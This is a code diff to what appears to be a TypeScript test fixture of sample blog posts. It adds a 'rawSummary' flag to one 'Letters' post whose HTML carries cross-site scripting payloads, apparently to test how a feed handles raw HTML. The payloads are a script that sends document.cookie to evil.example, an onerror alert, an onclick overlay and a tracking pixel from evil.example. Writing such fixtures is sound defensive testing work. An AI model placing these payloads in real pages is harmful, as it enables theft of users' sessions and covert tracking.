@@ -12,6 +12,8 @@ export interface SamplePost {
   picture?: { scene: Scene; alt: string };
   excerpt: string;
   html: string;
+  /** The feed's summary of it is its HTML as it is. */
+  rawSummary?: boolean;
   /** The feed brings it twice, the second time with this query on its address. */
   againAs?: string;
 }
@@ -117,6 +119,7 @@ export const samplePosts: readonly SamplePost[] = [
     topics: ['Letters'],
     comments: 2,
     excerpt: 'We promised to print every letter. This one brought a few things of its own.',
+    rawSummary: true,
     html: `<p onclick="alert(1)" style="position:fixed;inset:0">We promised to print every letter. This one brought a few things of its own.</p>
 <script>document.location = 'https://evil.example/?' + document.cookie</script>
 <img src="x" onerror="alert('image')"><img src="https://evil.example/pixel.gif" width="1" height="1">
